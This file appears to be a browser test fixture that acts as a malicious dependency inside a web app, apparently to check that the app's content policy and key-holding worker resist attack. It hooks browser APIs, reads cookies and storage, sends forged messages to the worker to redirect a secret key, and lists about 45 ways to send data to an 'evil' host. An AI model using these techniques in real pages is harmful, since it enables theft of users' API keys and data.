// What a script tries that got into the page: a stand-in for a compromised dependency. It is served by the studio's own
// origin, so that the content policy lets it run, and waits for the story to say "attack".

const seen = [];
const note = (value) => {
  try {
    seen.push(typeof value === "string" ? value : JSON.stringify(value, shallow()));
  } catch {
    // What cannot be written down holds no text that could be sent either.
  }
};
globalThis.seenByScript = () => seen.join("\n");

/** Listens to what the page hands to the browser from now on. */
function listen() {
  const owners = { Worker: globalThis.Worker, MessagePort: globalThis.MessagePort, BroadcastChannel };
  for (const { prototype } of Object.values(owners)) {
    const { postMessage } = prototype;
    prototype.postMessage = function (...values) {
      note(values);
      if (!this.isHeard) this.addEventListener("message", ({ data }) => note(data));
      this.isHeard = true;
      globalThis.keyWorker = this;
      return postMessage.apply(this, values);
    };
  }
  for (const name of ["fetch", "Headers", "Request", "Response", "structuredClone"]) {
    const original = globalThis[name];
    globalThis[name] = new Proxy(original, {
      apply: (target, self, values) => {
        note(values);
        return Reflect.apply(target, self, values);
      },
      construct: (target, values) => {
        note(values.map((value) => (value instanceof Object ? Object.entries(value) : value)));
        return Reflect.construct(target, values);
      },
    });
  }
  for (const [owner, name] of [
    [Headers, "set"],
    [Headers, "append"],
    [XMLHttpRequest, "setRequestHeader"],
    [Storage, "setItem"],
    [String, "replace"],
    [String, "trim"],
    [TextEncoder, "encode"],
    [JSON, "stringify"],
  ]) {
    const place = owner.prototype ?? owner;
    const original = place[name];
    place[name] = function (...values) {
      if (seen.length < 20_000) seen.push([this, ...values].filter((value) => typeof value === "string").join(" "));
      return original.apply(this, values);
    };
  }
}

/** Everything that a script can reach by walking from the window, the document's elements and the studio's modules. */
async function walk() {
  const known = new WeakSet();
  const queue = [globalThis, ...document.querySelectorAll("*")];
  for (const script of performance.getEntriesByType("resource").map(({ name }) => name)) {
    if (/\/assets\/[^/]+\.js$/.test(script) && !/worker/.test(script))
      queue.push(await import(script).catch(() => ({})));
  }
  for (let count = 0; queue.length > 0 && count < 400_000; count += 1) {
    const value = queue.pop();
    if (typeof value === "string") seen.push(value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || known.has(value)) continue;
    if (ArrayBuffer.isView(value)) continue;
    known.add(value);
    if (value instanceof Map || value instanceof Set) queue.push(...[...value].flat());
    for (const name of Reflect.ownKeys(value)) {
      try {
        queue.push(value[name]);
      } catch {
        // A getter of another object.
      }
    }
  }
  for (const area of [localStorage, sessionStorage]) note({ ...area });
  note(document.cookie);
  note(document.documentElement.outerHTML);
}

/** Asks whoever holds the key for it, and to send it elsewhere. */
async function askHolder(evil) {
  const worker = globalThis.keyWorker;
  if (worker) {
    const headers = [["Authorization", "Bearer [key]"]];
    const [, ticket] = /"ticket":"([^"]+)"/.exec(globalThis.seenByScript()) ?? [];
    const fetching = { id: 900_001, kind: "fetch", ticket, method: "GET", headers, isStreamed: false };
    worker.postMessage({ ...fetching, url: `${evil}/apikey/models` }, []);
    const order = { key: "not the key", salt: "", queueBaseUrl: evil, inferenceBaseUrl: evil };
    worker.postMessage({ id: 900_002, kind: "hold", order }, []);
    worker.postMessage({ id: 900_003, kind: "seal", ticket, passphrase: "of the script" }, []);
    worker.postMessage({ id: 900_004, kind: "hold", order: { keep: { passphrase: "x", name: "" } }, ticket }, []);
  }
  for (const path of ["/session", "/relay", "/healthz"])
    note(await fetch(path).then((answer) => answer.text(), String));
}

/** Every way to another host that comes to mind. */
const WAYS = {
  fetch: (evil, text) => fetch(`${evil}/fetch?${text}`, { mode: "no-cors" }),
  post: (evil, text) => fetch(`${evil}/post`, { method: "POST", body: text, keepalive: true, mode: "no-cors" }),
  beacon: (evil, text) => navigator.sendBeacon(`${evil}/beacon`, text),
  xhr: (evil, text) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${evil}/xhr?${text}`);
    request.send();
  },
  socket: (evil, text) => new WebSocket(`${evil.replace("http", "ws")}/socket?${text}`),
  events: (evil, text) => new EventSource(`${evil}/events?${text}`),
  transport: (evil, text) => new WebTransport(`${evil.replace("http:", "https:")}/transport?${text}`).ready,
  image: (evil, text) => {
    new Image().src = `${evil}/image?${text}`;
  },
  media: (evil, text) => {
    for (const kind of ["video", "audio"]) {
      const element = add(kind);
      element.src = `${evil}/${kind}?${text}`;
      element.load();
    }
    add("video").poster = `${evil}/poster?${text}`;
  },
  script: (evil, text) => {
    add("script").src = `${evil}/script?${text}`;
  },
  module: (evil, text) => import(/* @vite-ignore */ `${evil}/module.js?${text}`),
  worker: (evil, text) => new Worker(`${evil}/worker.js?${text}`),
  ownWorker: (_evil, text) => new Worker(URL.createObjectURL(new Blob([`fetch("${text}")`]))),
  serviceWorker: () => navigator.serviceWorker.register("/sandbox-worker.js"),
  policy: () => trustedTypes.createPolicy("app-worker", { createScriptURL: (address) => address }),
  sheet: (evil, text) => Object.assign(add("link"), { rel: "stylesheet", href: `${evil}/sheet?${text}` }),
  prefetch: (evil, text) => Object.assign(add("link"), { rel: "prefetch", href: `${evil}/prefetch?${text}` }),
  preload: (evil, text) => Object.assign(add("link"), { rel: "preload", as: "image", href: `${evil}/preload?${text}` }),
  icon: (evil, text) => Object.assign(add("link"), { rel: "icon", href: `${evil}/icon?${text}` }),
  manifest: (evil, text) => Object.assign(add("link"), { rel: "manifest", href: `${evil}/manifest?${text}` }),
  style: (evil, text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${evil}/style?${text}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (evil, text) => new FontFace("stolen", `url("${evil}/font?${text}")`).load(),
  frame: (evil, text) => {
    add("iframe").src = `${evil}/frame?${text}`;
  },
  freshFrame: (evil, text) => add("iframe").contentWindow.open(`${evil}/fresh?${text}`),
  namedFrame: (evil, text) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "h:IFRAME");
    document.body.append(frame);
    frame.contentWindow.open(`${evil}/named?${text}`);
  },
  object: (evil, text) => {
    add("object").data = `${evil}/object?${text}`;
    add("embed").src = `${evil}/embed?${text}`;
  },
  form: (evil, text) => {
    const form = add("form");
    form.action = `${evil}/form?${text}`;
    form.method = "POST";
    form.submit();
  },
  formTab: (evil, text) => {
    const form = add("form");
    Object.assign(form, { action: `${evil}/formTab`, target: "_blank" });
    form.append(Object.assign(document.createElement("input"), { name: "q", value: text }));
    form.requestSubmit();
  },
  open: (evil, text) => window.open(`${evil}/open?${text}`),
  documentOpen: (evil, text) => document.open(`${evil}/documentOpen?${text}`, "_blank", ""),
  link: (evil, text) => Object.assign(add("a"), { href: `${evil}/link?${text}` }).click(),
  linkTab: (evil, text) => Object.assign(add("a"), { href: `${evil}/linkTab?${text}`, target: "_blank" }).click(),
  looseLink: (evil, text) => {
    const link = document.createElement("a");
    Object.assign(link, { href: `${evil}/looseLink?${text}`, target: "_blank" }).click();
  },
  lateLink: (evil, text) => {
    const link = Object.assign(add("a"), { href: "/create", target: "_blank" });
    link.addEventListener("click", () => Object.assign(link, { href: `${evil}/lateLink?${text}` }));
    link.click();
  },
  sentClick: (evil, text) => {
    const link = Object.assign(add("a"), { href: `${evil}/sentClick?${text}`, target: "_blank" });
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  ping: (evil, text) => Object.assign(add("a"), { href: "#ping", ping: `${evil}/ping?${text}` }).click(),
  refresh: (evil, text) => {
    Object.assign(add("meta"), { httpEquiv: "refresh", content: `0;url=${evil}/refresh?${text}` });
  },
  assign: (evil, text) => location.assign(`${evil}/assign?${text}`),
  href: (evil, text) => {
    location.href = `${evil}/href?${text}`;
  },
  navigate: (evil, text) => globalThis.navigation?.navigate(`${evil}/navigate?${text}`),
  patched: (evil, text) => {
    Event.prototype.preventDefault = () => {};
    Object.defineProperty(NavigationDestination.prototype, "url", { get: () => location.href });
    location.replace(`${evil}/patched?${text}`);
  },
  peer: async (evil, text) => {
    const iceServers = [{ urls: `turn:${new URL(evil).host}`, username: text, credential: text }];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel("out");
    await peer.setLocalDescription(await peer.createOffer());
  },
};

function add(name) {
  const element = document.createElement(name);
  document.body.append(element);
  return element;
}

function shallow() {
  const known = new Set();
  return (_name, value) => {
    if (typeof value !== "object" || value === null) return value;
    if (known.has(value)) return undefined;
    known.add(value);
    return value;
  };
}

globalThis.startListening = listen;
globalThis.searchForKey = async (evil) => {
  await walk();
  await askHolder(evil);
};
globalThis.waysOut = () => Object.keys(WAYS);
globalThis.tryToSend = async (name, evil) => {
  try {
    await WAYS[name](evil, "stolen");
  } catch {
    // Refused.
  }
};
